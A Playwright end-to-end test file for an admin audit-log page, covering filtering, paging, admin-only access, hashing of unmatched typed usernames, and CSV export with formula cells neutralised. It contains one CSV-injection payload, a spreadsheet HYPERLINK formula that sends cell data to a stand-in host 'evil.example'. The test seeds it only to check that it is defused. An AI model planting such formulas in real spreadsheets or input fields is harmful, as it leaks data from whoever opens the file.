import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { deriveTypedNameKey, typedNameSubject } from '@/lib/audit/typed-name';
import { E2E_AUTH_SECRET } from '../../playwright.config';
import { expect, test } from './support/test';
import { sql } from './support/database';
import { createOwnUser, signInOwnUser } from './support/own-user';
import { expectNoAxeViolations, submitPassword } from './support/sign-in';

// The admin's audit log (issue 5, RC-06): filter by user, event and time, page, export as CSV
// with formula cells neutralised (CSV-04); admins only.

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
/** What the servers store for a username that matches no account (lib/audit/typed-name.ts). */
const hashedName = (typed: string) => typedNameSubject(deriveTypedNameKey(E2E_AUTH_SECRET), typed);

/** 60 events for `userId`, one a minute from 2030-03-01 10:00 UTC, alternating two kinds, and one failed sign-in typed as `typed` (stored hashed). */
async function seedEvents(userId: string, typed: string) {
  await sql(
    `INSERT INTO "AuditEvent" (id, type, "userId", ip, "createdAt")
     SELECT 'e2e-audit-' || $1 || '-' || n, CASE WHEN n % 2 = 0 THEN 'code.sent' ELSE 'signin.succeeded' END, $1, '192.0.2.' || n,
            timestamptz '2030-03-01 10:00:00+00' + n * interval '1 minute'
     FROM generate_series(0, 59) AS n`,
    [userId],
  );
  await sql(
    `INSERT INTO "AuditEvent" (id, type, subject, ip, "userAgent", detail, "createdAt")
     VALUES ($1, 'signin.password_failed', $2, '203.0.113.66', $3, '{"reason":"unknown-user"}', timestamptz '2030-03-01 11:30:00+00')`,
    [`e2e-audit-${userId}-typed`, hashedName(typed), FORMULA],
  );
}

test('an admin filters the audit log by user, event and time, pages through it, and exports the filtered events as CSV with formulas neutralised (CSV-04)', async ({
  page,
}) => {
  const audited = await createOwnUser('audited');
  await seedEvents(audited.id, audited.username.toUpperCase());
  const admin = await createOwnUser('auditor', { role: 'admin' });
  await signInOwnUser(page, admin);

  await page.goto('/admin');
  await page
    .getByRole('navigation', { name: 'Admin' })
    .getByRole('link', { name: 'Audit log' })
    .click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Audit log');
  await page.getByLabel('Username', { exact: true }).fill(audited.username);
  await page.getByRole('button', { name: 'Filter' }).click();
  // The failed sign-in typed in capitals counts as this user's: usernames are case-insensitive.
  await expect(page.getByRole('status').filter({ hasText: 'Showing' })).toHaveText(
    'Showing 1–50 of 61 events matching the filter, newest first.',
  );
  const firstRow = page.getByRole('row').nth(1);
  await expect(firstRow).toContainText('signin.password_failed');
  await expect(firstRow).toContainText(`typed: ${audited.username} (matched by its hash)`);
  await expect(firstRow).toContainText('reason: unknown-user');
  await page.getByRole('link', { name: 'Next page' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Showing' })).toHaveText(
    'Showing 51–61 of 61 events matching the filter, newest first.',
  );
  await expect(page.getByText('Page 2 of 2')).toBeVisible();
  await expectNoAxeViolations(page);

  await page.getByLabel('Event', { exact: true }).selectOption('signin.succeeded');
  await page.getByLabel('From (UTC)').fill('2030-03-01T10:00');
  await page.getByLabel('To (UTC)').fill('2030-03-01T10:09');
  await page.getByRole('button', { name: 'Filter' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Showing' })).toHaveText(
    'Showing 1–5 of 5 events matching the filter, newest first.',
  );
  await expect(page).toHaveURL(/type=signin\.succeeded/);
  for (const ip of ['192.0.2.1', '192.0.2.9'])
    await expect(page.getByRole('cell', { name: ip, exact: true })).toBeVisible();
  await expect(page.getByRole('cell', { name: '192.0.2.11', exact: true })).toHaveCount(0);

  await page.getByLabel('Event', { exact: true }).selectOption('');
  await page.getByLabel('From (UTC)').fill('2030-03-01T11:00');
  await page.getByLabel('To (UTC)').fill('');
  await page.getByRole('button', { name: 'Filter' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Showing' })).toHaveText(
    'Showing 1–1 of 1 event matching the filter, newest first.',
  );
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Export CSV' }).click(),
  ]);
  expect(download.suggestedFilename()).toMatch(/^audit-log-\d{8}-\d{4}\.csv$/);
  const csv = await readFile(await download.path(), 'utf8');
  const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
  expect(lines[0]).toBe('time_utc,event,username,typed_username_hash,ip,user_agent,details');
  expect(lines[1]).toBe(
    `2030-03-01T11:30:00.000Z,signin.password_failed,,${hashedName(audited.username.toUpperCase())},203.0.113.66,"'${FORMULA.replace(/"/g, '""')}","{""reason"":""unknown-user""}"`,
  );
  expect(lines.slice(2)).toEqual(['']);

  // The export is itself on the record.
  await page.goto(`/admin/audit?user=${encodeURIComponent(admin.username)}&type=audit.exported`);
  await expect(page.getByRole('row').nth(1)).toContainText('audit.exported');
});

test('RC-06 the sign-in an admin just made is in the log, without the code or the password', async ({
  page,
}) => {
  const admin = await createOwnUser('self-audit', { role: 'admin' });
  const code = await signInOwnUser(page, admin);
  await page.goto(`/admin/audit?user=${encodeURIComponent(admin.username)}`);
  const table = page.getByRole('table', { name: 'Audit log' });
  for (const type of ['signin.password_ok', 'code.sent', 'signin.succeeded'])
    await expect(table.getByRole('cell', { name: type, exact: true })).toBeVisible();
  const response = await page.request.get(
    `/admin/audit/export?user=${encodeURIComponent(admin.username)}`,
  );
  const csv = await response.text();
  expect(csv.split('\r\n').length).toBeGreaterThan(4);
  for (const text of [await table.innerText(), csv]) {
    expect(text).not.toMatch(new RegExp(`(?<!\\d)${code}(?!\\d)`));
    expect(text).not.toContain(admin.password);
  }
});

test('RC-06 a name typed at sign-in that matches no account is stored only as a keyed hash, and the search by that name still finds the failed sign-in', async ({
  page,
  browser,
}) => {
  // A password typed into the username field by mistake.
  const typed = `Hunter2-${randomUUID().slice(0, 8)}`;
  await submitPassword(page, typed, 'anything at all');
  await expect(page.getByRole('alert').filter({ hasText: 'incorrect' })).toBeVisible();
  const { rows } = await sql(
    `SELECT count(*)::int AS n FROM "AuditEvent"
     WHERE concat_ws(' ', subject, ip, "userAgent", detail::text) ILIKE '%' || $1 || '%'`,
    [typed],
  );
  expect(rows[0].n).toBe(0);

  const adminContext = await browser.newContext();
  const admin = await adminContext.newPage();
  await signInOwnUser(admin, await createOwnUser('hash-auditor', { role: 'admin' }));
  await admin.goto(`/admin/audit?user=${encodeURIComponent(typed.toLowerCase())}`);
  const firstRow = admin.getByRole('row').nth(1);
  await expect(firstRow).toContainText('signin.password_failed');
  await expect(firstRow).toContainText(`typed: ${typed.toLowerCase()} (matched by its hash)`);
  await admin.goto('/admin/audit?type=signin.password_failed');
  await expect(admin.getByText(`typed name, hash ${hashedName(typed).slice(8)}`)).toBeVisible();
  await adminContext.close();
});

test('the audit log and its export are for admins only: "not found" for a user, sign-in for a stranger', async ({
  page,
}) => {
  for (const path of ['/admin/audit', '/admin/audit/export']) {
    await page.goto(path);
    await expect(page).toHaveURL(/\/login/);
  }
  await signInOwnUser(page, await createOwnUser('not-an-admin'));
  for (const path of ['/admin/audit', '/admin/audit/export']) {
    const response = await page.request.get(path);
    expect(response.status(), path).toBe(404);
    expect(await response.text(), path).not.toContain('time_utc');
  }
});
